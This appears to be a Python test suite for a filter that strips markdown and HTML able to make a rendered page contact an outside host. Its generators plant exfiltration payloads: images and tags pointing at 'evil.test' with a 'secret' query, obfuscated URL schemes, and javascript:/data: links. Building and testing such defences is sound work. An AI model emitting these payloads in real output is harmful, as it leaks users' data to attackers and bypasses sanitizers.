"""Exfiltration through rendered markdown, with markdown-it-py as the oracle.

Hypothesis writes markdown with a planted URL to an outside host — inline and reference images
(long, nested, escaped, multi-line alt text; blanks and a line break before the URL; ``<…>``
destinations; entity- and backslash-encoded schemes), raw ``<img>`` and other auto-loading tags,
and links with ``javascript:``/``vbscript:``/``data:`` — among ordinary markdown. After the
filter, whole and streamed in random chunks, CommonMark rendering (raw HTML on and off, every
link scheme let through) shows no element that loads the host and no link with a bad scheme.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from aiwarden.scanners.html import HtmlFilter

HOST = "evil.test"
ALLOWED = "docs.example.com"
_BAD = ("javascript:", "vbscript:", "data:")


def _renderer(raw_html: bool) -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": raw_html})
    md.validateLink = lambda url: True  # a permissive renderer: the filter must not rely on it
    return md


RENDERERS = (_renderer(True), _renderer(False))


class _Loads(HTMLParser):
    """What a rendered page would load or run: (tag, attribute, value) found bad."""

    def __init__(self, links: str) -> None:
        super().__init__(convert_charrefs=True)
        self.links = links
        self.bad: list[tuple[str, str, str]] = []
        self._in: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("style", "script"):
            self._in = tag
        for name, value in attrs:
            v = "".join((value or "").split()).lower()
            if tag == "a" and name == "href":
                if v.startswith(_BAD) or (self.links == "all" and HOST in v):
                    self.bad.append((tag, name, v))
            elif HOST in v or v.startswith(_BAD):
                self.bad.append((tag, name, v))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self._in = None

    def handle_data(self, data: str) -> None:
        if self._in and HOST in data.lower():
            self.bad.append((self._in, "text", data))


def loads(markdown: str, links: str = "images") -> list[tuple[str, str, str]]:
    bad = []
    for md in RENDERERS:
        p = _Loads(links)
        p.feed(md.render(markdown))
        p.close()  # (text still buffered, e.g. an unclosed <style> at the end, is handled too)
        bad += p.bad
    return bad


def run(text: str, parts: list[str] | None = None, links: str = "images") -> str:
    f = HtmlFilter(allow=(ALLOWED,), escape_html=False, links=links)
    return "".join(f.feed(p) for p in (parts or [text])) + f.flush()


URLS = st.sampled_from(
    [
        f"https://{HOST}/x?q=secret",
        f"//{HOST}/x",
        f"HTTPS://{HOST.upper()}/x",
        f"https&#58;//{HOST}/x",
        f"https\\://{HOST}/x",
        f"&#x68;ttps://{HOST}/x",
        f"http:{HOST}/x",
        f"https://{ALLOWED}@{HOST}/x",
        f"https://{ALLOWED}.{HOST}/x",
        f"https://{'a' * 90}.{HOST}/x",
    ]
)
BLANKS = st.sampled_from(["", " ", "\t", "\n", "  \n  ", " \t ", "   \n\t", " " * 12])
TITLES = st.sampled_from(["", ' "t"', " 't'", " (t)"])
ALT = st.one_of(
    st.text(st.sampled_from([*list("ab xy[]\\!*_`"), "\n"]), max_size=20).filter(lambda t: "\n\n" not in t),
    st.sampled_from(
        ["", "a [b] c", "a [b [c]] d", "a \\] b", "a \\[ b", "line\nbreak", "x" * 120, "long alt " * 100, "a [b](c) d"]
    ),
)
LABEL = st.text(st.sampled_from(list("abc XYZ")), min_size=1, max_size=80).filter(lambda t: t.strip() != "")
PROSE = st.sampled_from(
    [
        "Some text. ",
        "\n\n",
        "\n- item\n",
        "\n> quote\n",
        " `code` ",
        f" [ok](https://{ALLOWED}/p) ",
        " ![ok](img/local.png) ",
        " a < b and c > d ",
        " [link](https://python.org) ",
    ]
)


@st.composite
def planted(draw: st.DrawFn) -> str:
    url = draw(URLS)
    dest = f"<{url}>" if draw(st.booleans()) and "\\" not in url else url
    kind = draw(st.integers(0, 6))
    if kind == 0:
        return f"![{draw(ALT)}]({draw(BLANKS)}{dest}{draw(TITLES)})"
    if kind == 1:
        label = draw(LABEL)
        use = draw(st.sampled_from([f"![{draw(ALT)}][{label}]", f"![{label}][]", f"![{label}]"]))
        return f"\n\n[{label}]:{draw(BLANKS)}{dest}{draw(TITLES)}\n\n{use}\n"
    if kind == 2:
        q = draw(st.sampled_from(['"', "'", ""]))
        tag = draw(
            st.sampled_from(
                [
                    "img src",
                    "IMG SRC",
                    "Img Src",
                    "video poster",
                    "iframe src",
                    "embed src",
                    "object data",
                    "link rel=stylesheet href",
                    "input type=image src",
                    "script src",
                    "source srcset",
                    "body background",
                    "audio src",
                    "track src",
                ]
            )
        )
        pad = draw(st.sampled_from(["", ' alt="a > b"', ' alt="' + "x" * 150 + '"', " width=1"]))
        raw = url.replace("\\", "")
        return f"<{tag}{pad}={q}{raw}{q}>"
    if kind == 3:
        raw = url.replace("\\", "")
        return draw(
            st.sampled_from(
                [
                    f'<div style="background:url({raw})">x</div>',
                    f"<style>@import url({raw});</style>",
                    f"<svg><image href='{raw}'/></svg>",
                    f'<source srcset="a.png 1x, {raw} 2x">',
                ]
            )
        )
    if kind == 4:
        bad = draw(
            st.sampled_from(
                [
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    "vbscript:msgbox(1)",
                    "data:text/html;base64,PHNjcmlwdD4=",
                    "jav&#x61;script:alert(1)",
                    "java\\script:alert(1)",
                ]
            )
        )
        form = draw(st.sampled_from(["[x]({})", "[x](<{}>)", "<{}>", "[x]( {})", '[x]({} "t")']))
        return form.format(bad)
    if kind == 5:  # an image inside a link, a link inside an image's alt
        return draw(st.sampled_from([f"[![a]({dest})](https://python.org)", f"![a [b](c) d]({dest})"]))
    return f"![{draw(ALT)}]{draw(BLANKS)}({dest})"  # not an image when blanks are there: either way safe


DOCS = st.lists(st.one_of(PROSE, planted()), min_size=1, max_size=6).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(DOCS, st.lists(st.integers(1, 40), min_size=1, max_size=30))
def test_nothing_rendered_loads_an_outside_url(doc: str, sizes: list[int]) -> None:
    whole = run(doc)
    assert loads(whole) == [], (doc, whole)
    parts, i = [], 0
    for n in sizes * 50:
        if i >= len(doc):
            break
        parts.append(doc[i : i + n])
        i += n
    if i < len(doc):
        parts.append(doc[i:])
    assert run(doc, parts) == whole


@settings(max_examples=150, deadline=None)
@given(DOCS)
def test_links_all_removes_outside_links_too(doc: str) -> None:
    assert loads(run(doc, links="all"), links="all") == []


def test_an_image_opened_far_back_is_still_an_image() -> None:
    text = "![" + "a b " * 400 + "](https://evil.test/x)\n\n[docs](https://python.org)"
    whole = run(text)
    assert whole.endswith("] (link removed)\n\n[docs](https://python.org)")
    assert run(text, [text[i : i + 5] for i in range(0, len(text), 5)]) == whole


@pytest.mark.parametrize(
    "text",
    [
        "![logo](img/logo.png) and [docs](https://python.org) and [here](https://docs.example.com/p)",
        "see ![chart](https://docs.example.com/c.png) then [link](https://python.org)",
        '<a href="https://python.org">ok</a> <b>bold</b> <img src="local.png" alt="x">',
        "[ref]: https://docs.example.com/x\n\n![a][ref]",
        "use a < b and `x > y`; List<String> in Java",
    ],
)
def test_ordinary_markdown_is_kept(text: str) -> None:
    assert run(text) == text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("![x](\n  https://evil.test/a) next", "![x] (link removed) next"),
        ("[x](javascript:alert(1))", "[x] (link removed)"),
        ("<IMG SRC=https://evil.test/x>", "&lt;IMG SRC=https://evil.test/x>"),
        ("![" + "a" * 100 + "](https://evil.test)", "![" + "a" * 100 + "] (link removed)"),
    ],
)
def test_examples_from_the_issue(text: str, kept: str) -> None:
    assert run(text) == kept
    assert loads(kept) == []


_URL_PARTS = ["h", ":", "/", "\\", "&", "#58;", "amp;", "\x00", "\x1f", "\x7f", " ", "\t", "\xa0", "\u2028", "e.x", "@"]


@given(st.lists(st.sampled_from(_URL_PARTS), max_size=12).map("".join))
def test_destination_decoded_as_by_every_step(url: str) -> None:
    """The decoding that skips a step when its character is absent gives what all three steps give."""
    import html as html_module

    from aiwarden.scanners.html import _CONTROL, _ESCAPED, _decoded

    assert _decoded(url) == _CONTROL.sub("", _ESCAPED.sub(r"\1", html_module.unescape(url)))


# -- no opener, no link: brackets without a "[" before them in their paragraph ------------------

_PARAGRAPH_PARTS = st.sampled_from(
    ["[", "![", "]", "](", "]: ", "a ", "\n", "\n\n", "\n  \n", "\r\n\r\n", " ", "x", "(", ")", "\\"]
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.one_of(_PARAGRAPH_PARTS, URLS), min_size=1, max_size=25).map("".join),
    st.lists(st.integers(1, 20), min_size=1, max_size=20),
)
def test_brackets_and_blank_lines_in_any_order_load_nothing(doc: str, sizes: list[int]) -> None:
    # a "](" counts only after a "[" in its paragraph: where openers, closers and blank lines
    # (split across pieces too) fall, no rendered element may load the outside URL, and every
    # chunking gives the whole text's result
    whole = run(doc)
    assert loads(whole) == [], (doc, whole)
    parts, i = [], 0
    for n in sizes * 30:
        if i >= len(doc):
            break
        parts.append(doc[i : i + n])
        i += n
    if i < len(doc):
        parts.append(doc[i:])
    assert run(doc, parts) == whole


@pytest.mark.parametrize("text", ["[\r\n\r\n]: https://evil.test/x?q=secret", "[\n \r\n](https://evil.test/x)"])
def test_a_blank_line_split_inside_its_crlf_still_ends_the_paragraph(text: str) -> None:
    # "\n\r" + "\n": the CR waits for its LF, so the "[" before the blank line opens nothing
    # after it, in one piece or character by character
    assert run(text, list(text)) == run(text)


def test_closers_without_an_opener_are_not_tried() -> None:
    # 64 KB of "](https://evil.test/x " and "]: https://evil.test/x ": no "[" anywhere, so no
    # link, no image, no reference; before, each one was a decision (~5 us of Python apiece)
    for unit in ("](https://evil.test/x ", "]: https://evil.test/x ", "x](https://evil.test/x)\n\n["):
        text = (unit * 4000)[:64_000]
        f = HtmlFilter(allow=(ALLOWED,), escape_html=False)
        out = f.feed(text) + f.flush()
        assert loads(out) == []
        assert f.tries <= 2 * text.count("[") + 8, (unit, f.tries)
    # a "[" before, in the same paragraph (across lines too), makes it a candidate again
    assert run("![a\nb](https://evil.test/x)") == "![a\nb] (link removed)"
    assert run("[a]\n\n](https://evil.test/x)") == "[a]\n\n](https://evil.test/x)"
    assert loads("[a]\n\n](https://evil.test/x)") == []


@pytest.mark.parametrize(
    "text", ["](//evil.test/x[]: https://evil.test/x?q=secret", "](a[b](//evil.test/x)", "]]](x[y]: //evil.test/x"]
)
def test_a_run_of_brackets_is_tried_from_its_first_opened_candidate(text: str) -> None:
    # the trigger's run of "]"s spans the first one (no "[" before it) and a later one that has
    # one: tried from that later one only, whole or in pieces of any size — before, a whole
    # answer tried the run's first "](", kept it, and skipped past the "]:" a stream removed
    whole = run(text)
    assert loads(whole) == []
    for n in (1, 2, 3, 7):
        assert run(text, [text[i : i + n] for i in range(0, len(text), n)]) == whole
